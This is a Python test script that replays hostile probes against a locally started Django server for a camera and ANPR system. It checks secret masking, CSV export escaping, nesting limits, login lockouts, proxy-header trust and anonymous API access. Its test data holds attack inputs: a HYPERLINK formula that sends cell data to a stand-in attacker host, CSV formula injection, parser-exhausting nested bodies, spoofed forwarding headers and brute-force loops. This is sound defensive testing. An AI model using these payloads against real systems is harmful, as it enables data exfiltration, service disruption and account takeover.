"""Replay the hostile-user probes of issue 17 against a running production-mode server.

    DATABASE_URL=postgres://postgres@127.0.0.1:5432/NAME .venv/bin/python bench/hostile_probes.py

It recreates the database NAME_probe, migrates it, starts gunicorn (DEBUG off, two sync
workers, so per-process state would show) on 127.0.0.1:--port, sets up one user per role,
a camera, a channel, an exporter and a detector through the ORM, then replays every probe
over HTTP. Each probe prints ``ok`` or ``FINDING``; the last line counts the findings and
the exit status is 1 when there is any. Every request goes to loopback addresses only.
"""

from __future__ import annotations

import argparse
import csv
import http.client
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlparse, urlunparse

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
sys.path.insert(0, str(ROOT))

SECRETS = {
    "camera": "Cam-Pa55-probe",
    "push": "Push-Pa55-probe",
    "signing": "hmac-probe-key",
    "bearer": "bearer-probe-token",
    "mqtt": "mqtt-probe-pass",
    "exporter": "export-probe-secret",
}
PASSWORD = "probe only pass 2026"
DETECTOR_IP, DETECTOR_PASSWORD = "10.20.0.5", "Detector-probe-2026"
CAMERA_IP, UNAPPROVED_IP = "192.168.1.150", "192.168.1.199"
WEBHOOK = "/api/v1/events/camera"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def probe_database_url(url: str) -> str:
    parts = urlparse(url)
    return urlunparse(parts._replace(path=parts.path.rstrip("/") + "_probe"))


def server_env(database_url: str, media: str) -> dict:
    """Production mode, as the probes were first run; networks in TRUSTED_PROXIES on purpose."""
    return {
        **os.environ,
        "DJANGO_DEBUG": "false",
        "SECRET_KEY": "probe-secret-key-not-for-use-0123456789",
        "FIELD_ENCRYPTION_KEY": "probe-field-key",
        "MODEL_ENCRYPTION_KEY": "base64:cHJvYmUtb25seS1tb2RlbC1rZXktMDAwMDAwMDAwMDA=",
        "EVIDENCE_SIGNING_KEY": "cHJvYmUtb25seS1ldmlkZW5jZS1zaWduaW5nLWtleSE=",
        "DATABASE_URL": database_url,
        "ALLOWED_HOSTS": "127.0.0.1,localhost",
        "TLS_ENABLED": "false",
        "BEHIND_TLS_PROXY": "true",
        "SECURE_HSTS_SECONDS": "60",
        "TRUSTED_PROXIES": "127.0.0.1,127.0.0.0/24",
        "MEDIA_ROOT": media,
        "EVENT_PROCESSING": "inline",
        "LOG_LEVEL": "ERROR",
        "DETECTOR_LOGIN_MAX_ATTEMPTS": "5",
        "STAFF_LOGIN_MAX_ATTEMPTS": "5",
        "CAMERA_LOOKUP_CACHE_SECONDS": "0",
    }


def recreate_database(url: str) -> None:
    import psycopg

    parts = urlparse(url)
    name = parts.path.lstrip("/")
    admin = urlunparse(parts._replace(path="/postgres"))
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        conn.execute(f'CREATE DATABASE "{name}"')


@dataclass
class Answer:
    status: int
    headers: dict
    body: bytes

    def json(self):
        return json.loads(self.body)

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


@dataclass
class Client:
    port: int
    source: str = "127.0.0.1"
    cookies: dict = field(default_factory=dict)

    def request(
        self, method: str, path: str, body: bytes = b"", headers: dict | None = None, chunked: bool = False
    ) -> Answer:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60, source_address=(self.source, 0))
        headers = dict(headers or {})
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        try:
            if chunked:  # in 1 KiB chunks, with no Content-Length
                pieces = iter([body[i : i + 1024] for i in range(0, len(body), 1024)])
                conn.request(method, path, body=pieces, headers=headers, encode_chunked=True)
            else:
                conn.request(method, path, body=body, headers=headers)
            response = conn.getresponse()
            answer = Answer(
                response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
            )
        finally:
            conn.close()
        for cookie in response.headers.get_all("Set-Cookie") or []:
            name, _, rest = cookie.partition("=")
            self.cookies[name.strip()] = rest.split(";", 1)[0]
        return answer

    def get(self, path: str, **headers) -> Answer:
        return self.request("GET", path, headers=headers)

    def form(self, path: str, fields: dict) -> Answer:
        from urllib.parse import urlencode

        return self.request(
            "POST", path, urlencode(fields).encode(), {"Content-Type": "application/x-www-form-urlencoded"}
        )

    def push(self, body: bytes, content_type: str, sender: str = CAMERA_IP, chunked=False) -> Answer:
        return self.request(
            "POST", WEBHOOK, body, {"Content-Type": content_type, "X-Forwarded-For": sender}, chunked=chunked
        )


class Findings:
    def __init__(self):
        self.items: list[str] = []

    def check(self, item: str, ok: bool, what: str) -> None:
        print(f"item {item:>3}  {'ok     ' if ok else 'FINDING'}  {what}", flush=True)
        if not ok:
            self.items.append(f"{item}: {what}")


# ---------------------------------------------------------------- setup (ORM, same database)


def setup_django(env: dict) -> None:
    os.environ.update(env)  # the same keys as the server, so sessions made here are valid there
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "damanat.settings")
    import django

    django.setup()


def seed() -> dict:
    from django.contrib.auth.models import Group, User

    from alerts.models import NotificationChannel
    from anpr.models import Vehicle
    from cameras.models import Camera
    from damanat.roles import ADMINISTRATOR, FACILITY_MANAGER, SECURITY_STAFF
    from detectors.models import Detector
    from integrations.models import Exporter

    users = {}
    for name, role in (
        ("guard", SECURITY_STAFF),
        ("manager", FACILITY_MANAGER),
        ("administrator", ADMINISTRATOR),
        ("victim", SECURITY_STAFF),
    ):
        user = User.objects.create_user(name, password=PASSWORD, is_staff=True)
        user.groups.add(Group.objects.get(name=role))
        users[name] = user
    Camera.objects.create(
        code="CAM-PROBE", ip_address=CAMERA_IP, role=Camera.Role.ENTRY_GATE, approval=Camera.Approval.APPROVED
    )
    # Push credentials make the webhook ask for them: a camera the probes do not push as.
    camera = Camera.objects.create(
        code="CAM-SECRET",
        ip_address="192.168.1.151",
        username="admin",
        password=SECRETS["camera"],
        push_username="pusher",
        push_password=SECRETS["push"],
    )
    channel = NotificationChannel.objects.create(
        name="probe",
        kind="webhook",
        url="http://127.0.0.1:9/",
        enabled=False,
        secret=SECRETS["signing"],
        bearer_token=SECRETS["bearer"],
        mqtt_password=SECRETS["mqtt"],
    )
    exporter = Exporter.objects.create(
        name="probe",
        transport="webhook",
        url="http://127.0.0.1:9/",
        auth="bearer",
        secret=SECRETS["exporter"],
        enabled=False,
        event_kinds=["plate"],
    )
    Vehicle.objects.create(plate="ABJ1234", owner_name=HYPERLINK, notes="+call", category="employee")
    detector = Detector(name="probe model", email="probe@system.local", allowed_ip=DETECTOR_IP)
    detector.set_password(DETECTOR_PASSWORD)
    detector.save()
    return {"users": users, "camera": camera, "channel": channel, "exporter": exporter}


def session_for(user) -> str:
    from importlib import import_module

    from django.conf import settings
    from django.contrib.auth import BACKEND_SESSION_KEY, HASH_SESSION_KEY, SESSION_KEY

    store = import_module(settings.SESSION_ENGINE).SessionStore()
    store[SESSION_KEY] = str(user.pk)
    store[BACKEND_SESSION_KEY] = "django.contrib.auth.backends.ModelBackend"
    store[HASH_SESSION_KEY] = user.get_session_auth_hash()
    store.create()
    return store.session_key


def signed_in(port: int, user) -> Client:
    return Client(port, cookies={"sessionid": session_for(user)})


# ---------------------------------------------------------------- the probes


def secrets_probe(port, data, findings):
    pages = [
        f"/admin/cameras/camera/{data['camera'].pk}/change/",
        f"/admin/alerts/notificationchannel/{data['channel'].pk}/change/",
        f"/admin/integrations/exporter/{data['exporter'].pk}/change/",
    ]
    api = [
        f"/api/v1/config/cameras/{data['camera'].pk}",
        f"/api/v1/exporters/{data['exporter'].pk}",
        f"/api/v1/notification-channels/{data['channel'].pk}",
    ]
    for role in ("guard", "manager", "administrator"):
        client = signed_in(port, data["users"][role])
        shown = []
        for path in pages + api:
            answer = client.get(path, **{"Accept-Language": "en"})
            shown += [f"{path} {answer.status}" for s in SECRETS.values() if s in answer.text]
            if answer.status >= 500:
                shown.append(f"{path} {answer.status}")
        states = client.get(pages[0], **{"Accept-Language": "en"}).text
        told = role == "administrator" or ("not set" in states or ">set<" in states)
        findings.check(
            "1",
            not shown and told,
            f"{role}: no stored secret on 3 admin pages and 3 API objects"
            + (f" (shown: {shown})" if shown else "")
            + ("" if told else "; no set/not set"),
        )


def with_pictures(count: int, size: int) -> tuple[bytes, str]:
    from cameras import simulator

    picture = simulator.TINY_JPEG + b"\0" * max(0, size - len(simulator.TINY_JPEG))
    body, kind = simulator.multipart(simulator.anpr_xml("KSA1234"), "anpr.xml", pictures=0)
    boundary = kind.split("boundary=")[1]
    parts = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="p{i}"; filename="p{i}.jpg"'
        f"\r\nContent-Type: image/jpeg\r\n\r\n".encode()
        + picture
        + b"\r\n"
        for i in range(count)
    )
    return body.replace(f"--{boundary}--".encode(), parts + f"--{boundary}--".encode()), kind


def media_bytes(media: Path) -> int:
    return sum(p.stat().st_size for p in media.rglob("*") if p.is_file())


def unapproved_pictures_probe(port, data, findings):
    from cameras.models import CameraEvent

    before = media_bytes(data["media"])
    for _ in range(3):
        Client(port).push(*with_pictures(3, 2 * 1024 * 1024), sender=UNAPPROVED_IP)
    kept = media_bytes(data["media"]) - before
    noted = CameraEvent.objects.filter(source_ip=UNAPPROVED_IP, extra__has_key="pictures_dropped").count()
    findings.check(
        "3",
        kept == 0 and noted == 3,
        f"3 pushes of 3 x 2 MiB pictures from an unapproved address: {kept} bytes kept, "
        f"{noted} events with size and hash only",
    )


def media_budget_probe(port, data, findings):
    from cameras.models import EventPicture
    from operations.retention import enforce_picture_budget, stored_picture_bytes

    for _ in range(3):
        Client(port).push(*with_pictures(2, 100_000))
    newest = EventPicture.objects.latest("created_at", "pk").pk
    deleted = enforce_picture_budget(budget=250_000)
    left = stored_picture_bytes()
    findings.check(
        "3",
        left <= 250_000 and EventPicture.objects.filter(pk=newest).exists(),
        f"media budget 250 kB over 600 kB of pictures: {deleted} oldest deleted, {left} bytes left",
    )


def full_disk_probe(port, data, findings):
    from cameras.models import CameraEvent

    media = data["media"]
    if not data.get("media_is_small_disk"):
        print("item   3  skipped  full disk: mounting a small tmpfs for MEDIA_ROOT needs root")
        return
    filler = media / "filler"
    with filler.open("wb") as out:  # leave about 20 kB free
        free = os.statvfs(media).f_bavail * os.statvfs(media).f_frsize
        out.write(b"\0" * max(0, free - 20_000))
    before = {p for p in media.rglob("*") if p.is_file()}
    answer = Client(port).push(*with_pictures(2, 200_000))
    filler.unlink()
    event_id = answer.json().get("event_id") if answer.status == 200 else None
    event = CameraEvent.objects.filter(pk=event_id).first()
    left = {p for p in media.rglob("*") if p.is_file()} - before
    flagged = bool(event and "pictures_dropped" in event.extra)
    findings.check(
        "3",
        answer.status == 200 and flagged and not left,
        f"full disk: answered {answer.status}, event kept and flagged: {flagged}, "
        f"files left behind: {len(left)}",
    )


def chunked_probe(port, data, findings):
    from cameras import simulator

    answer = Client(port).push(simulator.anpr_xml("CHK1234"), "application/xml", chunked=True)
    status = answer.json().get("status") if answer.status == 200 else None
    findings.check(
        "10",
        status == "accepted",
        f"chunked XML push: {answer.status} {status} {answer.json().get('reason', '') if status else ''}",
    )


def csv_probe(port, data, findings):
    from cameras import simulator

    for plate in ("=1+2", "ABJ1234"):
        Client(port).push(simulator.anpr_xml(plate), "application/xml")
    guard = signed_in(port, data["users"]["guard"])
    administrator = signed_in(port, data["users"]["administrator"])
    exports = {
        "/log/?format=csv": guard.get("/log/?format=csv"),
        "/admin/anpr/vehicle/export/": administrator.get("/admin/anpr/vehicle/export/"),
    }
    for path, answer in exports.items():
        rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
        formulas = [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_STARTS)]
        seen = any("=1+2" in cell or "HYPERLINK" in cell for row in rows for cell in row)
        findings.check(
            "4",
            answer.status == 200 and seen and not formulas,
            f"{path}: {len(rows) - 1} rows, formula cells {formulas[:3]}",
        )


def nesting_probe(port, data, findings):
    bodies = {
        "JSON 500 objects deep": (
            b'{"eventType":"VMD","a":' + b'{"a":' * 500 + b"1" + b"}" * 501,
            "application/json",
        ),
        "JSON 5,000 arrays deep": (
            b'{"eventType":"VMD","a":' + b"[" * 5000 + b"]" * 5000 + b"}",
            "application/json",
        ),
        "XML 1,000 levels deep": (
            b"<EventNotificationAlert>"
            + b"<a>" * 1000
            + b"x"
            + b"</a>" * 1000
            + b"</EventNotificationAlert>",
            "application/xml",
        ),
    }
    for what, (body, kind) in bodies.items():
        answer = Client(port).push(body, kind)
        status = answer.json().get("status") if answer.status == 200 else None
        findings.check(
            "5",
            status == "rejected" and "nested" in answer.json().get("reason", ""),
            f"{what}: {answer.status} {status}",
        )


def reset_lockouts() -> None:
    """Each probe starts unlocked (on a server without axes there is nothing to reset)."""
    from django.apps import apps

    if apps.is_installed("axes"):
        apps.get_model("axes", "AccessAttempt").objects.all().delete()


def staff_login_probe(port, data, findings):
    for path in ("/login/", "/admin/login/"):
        client = Client(port)
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', client.get(path).text).group(1)
        answers = [
            client.form(
                path, {"csrfmiddlewaretoken": token, "username": "victim", "password": f"wrong-{n}"}
            ).status
            for n in range(40)
        ]
        locked = answers.count(429)
        findings.check("6", locked >= 30, f"{path}: 40 wrong passwords, {locked} refused 429")
        reset_lockouts()
    client = Client(port)
    answers = [
        client.form("/api/v1/auth/token", {"username": "victim", "password": f"no-{n}"}).status
        for n in range(40)
    ]
    findings.check(
        "6",
        answers.count(429) >= 30,
        f"/api/v1/auth/token: 40 wrong passwords, {answers.count(429)} refused 429",
    )


def detector_login_probe(port, data, findings):
    def login(ip, password):
        body = json.dumps({"email": "probe@system.local", "password": password}).encode()
        return Client(port).request(
            "POST", "/api/model/login", body, {"Content-Type": "application/json", "X-Forwarded-For": ip}
        )

    right, wrong = login("10.20.0.99", DETECTOR_PASSWORD), login("10.20.0.99", "nope")
    findings.check(
        "7",
        (right.status, right.body) == (wrong.status, wrong.body),
        f"wrong address: right password {right.status}, wrong password {wrong.status}",
    )
    reset_lockouts()
    answers = [login(DETECTOR_IP, f"wrong-{n}").status for n in range(12)]
    allowed = len([s for s in answers if s != 429])
    findings.check(
        "7", allowed <= 5, f"limit 5, two workers: {allowed} wrong passwords answered before 429 ({answers})"
    )


def proxy_probe(port, data, findings):
    from cameras import simulator
    from cameras.models import Camera

    inside = Client(port, source="127.0.0.3")
    inside.push(
        simulator.region_event_xml("fielddetection", "zone-A"), "application/xml", sender="8.8.8.8, 127.0.0.3"
    )
    posed = Camera.objects.filter(ip_address="8.8.8.8").exists()
    findings.check(
        "8",
        not posed,
        "a host in TRUSTED_PROXIES' network named 8.8.8.8: "
        + ("camera created" if posed else "no camera for it"),
    )
    believed = "strict-transport-security" in inside.get("/login/", **{"X-Forwarded-Proto": "https"}).headers
    control = (
        "strict-transport-security" in Client(port).get("/login/", **{"X-Forwarded-Proto": "https"}).headers
    )
    findings.check(
        "8",
        control and not believed,
        f"X-Forwarded-Proto believed from the proxy: {control}, from 127.0.0.3: {believed}",
    )


def long_plate_probe(port, data, findings):
    from cameras import simulator
    from cameras.models import CameraEvent

    plate = "AB" + "1234567890" * 4
    answer = Client(port).push(simulator.anpr_xml(plate), "application/xml")
    event = CameraEvent.objects.filter(pk=answer.json().get("event_id")).first()
    status = event.status if event else None
    findings.check(
        "9",
        status not in (None, CameraEvent.Status.FAILED),
        f"40-character licensePlate: answered {answer.status}, event {status}"
        + (f" {event.reason[:80]}" if event and event.reason else ""),
    )


def nul_probe(port, data, findings):
    guard = signed_in(port, data["users"]["guard"])
    for path in (
        "/vehicles/?plate=%00",
        "/log/?plate=%00",
        "/alerts/?q=%00",
        "/api/v1/events?plate=%00",
        "/api/v1/vehicles?search=%00",
    ):
        status = guard.get(path).status
        findings.check("11", status == 400, f"{path}: {status}")


def anonymous_api_probe(port, data, findings):
    for path in (
        "/api/v1/events",
        "/api/v1/alerts",
        "/api/v1/occupancy",
        "/api/v1/vehicles",
        "/api/v1/config/cameras",
        "/api/v1/exporters",
    ):
        answer = Client(port).get(path)
        findings.check(
            "13",
            answer.status == 401 and "www-authenticate" in answer.headers,
            f"anonymous {path}: {answer.status} WWW-Authenticate={answer.headers.get('www-authenticate')}",
        )


PROBES = [
    secrets_probe,
    unapproved_pictures_probe,
    media_budget_probe,
    full_disk_probe,
    chunked_probe,
    csv_probe,
    nesting_probe,
    staff_login_probe,
    detector_login_probe,
    proxy_probe,
    long_plate_probe,
    nul_probe,
    anonymous_api_probe,
]


# ---------------------------------------------------------------- the server


def run_probe(probe, port: int, data: dict, findings: Findings) -> None:
    """A probe that crashes (the server answered garbage, a function is missing) is a finding."""
    try:
        probe(port, data, findings)
    except Exception as exc:  # noqa: BLE001
        findings.check("?", False, f"{probe.__name__} could not run: {type(exc).__name__}: {exc}")


def mount_small_disk(path: str) -> bool:
    """MEDIA_ROOT on a 16 MiB tmpfs, so the full-disk probe can fill it (root only)."""
    if os.geteuid() != 0:
        return False
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=16m", "tmpfs", path], capture_output=True, check=False
    )
    return mounted.returncode == 0


def start_server(env: dict, port: int, workers: int, log) -> subprocess.Popen:
    server = subprocess.Popen(
        [
            str(BIN / "gunicorn"),
            "damanat.wsgi:application",
            "--bind",
            f"127.0.0.1:{port}",
            "--workers",
            str(workers),
            "--log-level",
            "error",
        ],
        cwd=ROOT,
        env=env,
        stderr=log,
        stdout=log,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if Client(port).get("/liveness").status == 200:
                return server
        except OSError:
            time.sleep(0.5)
    server.kill()
    raise SystemExit("the server did not answer /liveness within 60 s")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, default=8500)
    parser.add_argument("--workers", type=int, default=2)
    args = parser.parse_args()
    base = os.environ.get("DATABASE_URL", "")
    if not base.startswith("postgres"):
        raise SystemExit("DATABASE_URL must name a PostgreSQL database (NAME_probe is recreated)")
    database_url = probe_database_url(base)
    media = tempfile.mkdtemp(prefix="damanat-probe-media-")
    small_disk = mount_small_disk(media)
    env = server_env(database_url, media)
    recreate_database(database_url)
    subprocess.run(
        [sys.executable, "manage.py", "migrate", "--noinput", "-v0"], cwd=ROOT, env=env, check=True
    )
    setup_django(env)
    data = seed()
    log = tempfile.NamedTemporaryFile("w", prefix="damanat-probe-server-", suffix=".log", delete=False)
    server = start_server(env, args.port, args.workers, log)
    findings = Findings()
    try:
        for probe in PROBES:
            run_probe(
                probe, args.port, {**data, "media": Path(media), "media_is_small_disk": small_disk}, findings
            )
    finally:
        server.terminate()
        server.wait(15)
        log.close()
        if small_disk:
            subprocess.run(["umount", media], check=False)
    print(f"{len(findings.items)} findings")
    return 1 if findings.items else 0


if __name__ == "__main__":
    sys.exit(main())
